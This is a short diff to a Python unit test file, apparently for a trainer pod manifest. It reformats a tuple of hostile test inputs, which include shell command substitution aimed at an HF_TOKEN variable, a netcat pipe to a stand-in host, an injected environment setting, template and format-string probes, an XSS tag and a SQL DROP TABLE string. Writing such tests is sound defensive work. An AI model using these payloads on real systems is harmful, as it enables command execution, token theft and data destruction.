@@ -12,7 +12,8 @@ from tests.unit.manifests.test_pool_pod import trainer
 
 HOSTILE = (
     "$(HF_TOKEN)", "${HF_TOKEN}", "`id`", "; id #", "| nc evil 1", "a\nFINETUNE_ALLOW_FILE=1", "\x00", "\u202egnp.exe", "\x1b]0;x\x07",
-    "{{ ''.__class__.__mro__ }}", "{0.__class__.__init__.__globals__}", "%s%n", "<script>alert(1)</script>", "'; DROP TABLE x; --", '"}\n{"a": 1',
+    "{{ ''.__class__.__mro__ }}", "{0.__class__.__init__.__globals__}", "%s%n", "<script>alert(1)</script>", "'; DROP TABLE x; --",
+    '"}\n{"a": 1',
 )  # fmt: skip
 
 
